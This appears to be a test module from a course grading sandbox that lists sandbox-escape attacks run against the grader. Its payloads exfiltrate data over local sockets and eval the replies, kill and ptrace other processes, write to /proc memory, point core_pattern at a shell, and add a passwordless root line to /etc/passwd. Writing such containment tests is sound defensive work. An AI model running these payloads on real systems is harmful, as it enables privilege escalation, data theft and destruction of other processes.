"""Getting out: the network, other processes, the system."""
# ruff: noqa: E501  (hostile code is kept as it comes)

from tests.grading.attacks.attack import Attack

ATTACKS = [
    Attack(
        "calls_the_graders_machine",
        """
import socket, urllib.request
for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", socket.gethostname(), "10.0.2.2", "172.17.0.1"):
    try:
        print(urllib.request.urlopen(f"http://{host}:@PORT@/stolen", timeout=1).read())
    except Exception as error:
        print(type(error).__name__)
""",
    ),
    Attack(
        "calls_from_a_function",
        answers={
            "write": """
import socket
def my_forget_gate(W_f, b_f, h_prev, x):
    line = socket.create_connection(("127.0.0.1", @PORT@), timeout=1)
    line.sendall(repr((W_f, b_f, h_prev, x)).encode())
    return eval(line.recv(1000))
"""
        },
    ),
    Attack(
        "looks_for_other_kernels_sockets",
        """
import glob, os, socket
for path in [p for f in ("/tmp", "@TMP@", "/run", "/") for p in glob.glob(f + "/**/*-[1-5]", recursive=True)][:200]:
    try:
        line = socket.socket(socket.AF_UNIX); line.connect(path); line.send(b"x" * 100)
        print("CANARY" + "-7f3a-socket", path) if os.getcwd() not in path else None
    except OSError:
        pass
print(open("/proc/net/unix").read().count("course-sandbox"))
""",
    ),
    Attack(
        "traces_and_signals_others",
        """
import ctypes, os, signal
libc = ctypes.CDLL(None)
for pid in range(1, 400):
    if pid != os.getpid():
        libc.ptrace(16, pid, 0, 0)
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass
        try: open(f"/proc/{pid}/mem", "r+b").write(b"x")
        except OSError: pass
""",
    ),
    Attack(
        "wants_to_be_root",
        """
import ctypes, os, subprocess
for attempt in (lambda: os.setuid(0), lambda: os.chroot("/tmp"), lambda: os.mknod("attack-left-disk", 0o60666, 0x800),
                lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/bin/sh"),
                lambda: open("/sys/fs/cgroup/cgroup.procs", "w").write("0")):
    try:
        attempt(); print("CANARY" + "-7f3a-root")
    except OSError as error:
        print(type(error).__name__)
libc = ctypes.CDLL(None)
print(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), libc.unshare(0x10000000 | 0x20000))
print(subprocess.getoutput("unshare -rm sh -c 'mount -t proc proc /proc; ls /proc'; mount --bind / /tmp; su -c id"))
open("/etc/passwd", "a").write("attack::0:0::/:/bin/sh")
""",
    ),
    Attack(
        "asks_the_students_terminal",
        answers={"hand": "z_f = f_t = float(input('your mark? '))"},
    ),
]
